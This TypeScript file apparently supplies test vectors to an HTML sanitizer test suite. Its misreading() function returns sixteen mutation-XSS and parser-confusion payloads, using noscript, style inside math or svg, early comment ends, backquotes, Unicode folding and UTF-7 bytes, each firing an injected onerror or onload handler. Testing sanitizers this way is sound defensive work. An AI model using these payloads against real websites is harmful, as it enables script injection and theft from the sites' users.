import type { Traps, Vector } from './traps.ts'

/** What two programs read in two ways, or one in two ways when it reads twice. */
export function misreading({ code, raw, tight, url }: Traps): readonly Vector[] {
  return [
    {
      what: 'markup that changes when read twice: noscript',
      body: `<noscript><p title="</noscript><img src=x onerror=${tight}>"></noscript>`
    },
    {
      what: 'markup that changes when read twice: style in a formula',
      body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`
    },
    {
      what: 'markup that changes when read twice: style in a drawing',
      body: `<svg></p><style><a id="</style><img src=x onerror=${tight}>">`
    },
    {
      what: 'markup that changes when read twice: form in a formula',
      body: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${tight}>`
    },
    {
      what: 'markup that changes when read twice: text areas and titles',
      body: `<textarea><img title="</textarea><img src=x onerror=${tight}>"></textarea><title>` +
        `<a title="</title><img src=x onerror=${tight}>">`
    },
    {
      what: 'a comment that ends early',
      body: `<!--><img src=x onerror="${code}">--><!-- --!><img src=x onerror="${code}">` +
        `<![CDATA[<img src=x onerror="${code}">`
    },
    {
      what: 'an attribute with backquotes and NULs',
      body: `<img src="x\u0060 onerror=${code}" alt="\u0060\u0060onerror=${code}"><p title='">` +
        `<img src=x onerror="${code}">'>Quotes</p>`
    },
    {
      what: 'an end of our document',
      body: `</main></body></html><script>${raw}</script><body onload="${code}"><frameset onload="${code}">`
    },
    {
      what: 'everything after it as text',
      body: `<xmp><img src=x onerror="${code}"></xmp><listing><plaintext><img src=x onerror="${code}">`
    },
    { what: 'markup that changes when read twice: a table in a formula', body: `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${tight}></style></annotation-xml></math>` },
    { what: 'markup that changes when read twice: a paragraph in a drawing', body: `<svg><p><style><g title="</style><img src=x onerror=${tight}>">` },
    { what: 'markup that changes when read twice: too many levels', body: `${'<div>'.repeat(120)}<img src=x onerror=${tight}>${'</div>'.repeat(120)}` },
    { what: 'markup that changes when read twice: links in links', body: `<a href="${url('outer')}"><table><a href="javascript:${code}">Inner</a></table></a>` },
    { what: 'an entity that ends late', body: `<p title="&quot onmouseover=${tight} x=">Entity</p><p title="&#34 onclick=${tight}">Number</p>` },
    { what: 'letters that fold to others', body: `<\u017fcript>${raw}</\u017fcript><img src=x o\u0148error=${tight}><\uff1cscript>${raw}` },
    { what: 'bytes of another encoding', body: `<p title="\u00ab\u001b$B\u00bb"><img src=x onerror=${tight}></p>+ADw-script+AD4-${raw}+ADw-/script+AD4-` }
  ]
}
